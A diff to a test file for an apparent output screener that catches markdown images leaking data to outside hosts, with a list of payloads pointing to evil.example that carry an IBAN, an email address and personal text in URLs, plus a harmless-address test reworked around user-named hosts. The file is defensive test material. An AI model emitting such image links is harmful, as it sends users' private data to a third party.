@@ -37,7 +37,6 @@ LOADED = [
     "![ok](https://evil.example/?x=DE89370400440532013000)",
     "![ok](https://evil.example/i-owe-my-landlord-seven-hundred-euros.png)",
     "![ok](https://evil.example/?x=I%20owe%20my%20landlord%20seven%20hundred)",
-    "![ok](https://evil.example/p.png?data=secret)",
     "![ok](https://evil.example/p.png?v=jane.doe%40example.com)",
     f"![ok][1]\n\n[1]: https://evil.example/?x={DATA}",
     f"![ok][]\n\n[OK]: <https://evil.example/?x={DATA}>",
@@ -104,6 +103,7 @@ HARMLESS = [
     "The style=\"...\" attribute holds CSS, src='...' an address.",
     "Clone https://github.example/some-project/with-a-rather-long-name/tree/main/packages/react-dom/src/client.",
 ]
+NAMED = [f"{name}.example.com" for name in ("img", "images", "www", "via")]
 
 
 @pytest.mark.parametrize(
@@ -122,7 +122,9 @@ def test_addresses_that_carry_data_are_found(policy: Policy, answer: str, rule: 
 
 @pytest.mark.parametrize("answer", HARMLESS)
 def test_other_addresses_pass(policy: Policy, answer: str):
-    verdict = screen_output(answer, bare_request(*CONVERSATION), policy.output)
+    """The user names the hosts: images of others are shown as text, and have a finding."""
+    named = Message(Speaker.USER, "Use example.com, and img., images., www. and via.example.com: " + ", ".join(NAMED))
+    verdict = screen_output(answer, bare_request(*CONVERSATION, named), policy.output)
     assert verdict.rules == ()
     assert verdict.decision is Decision.ALLOW
 
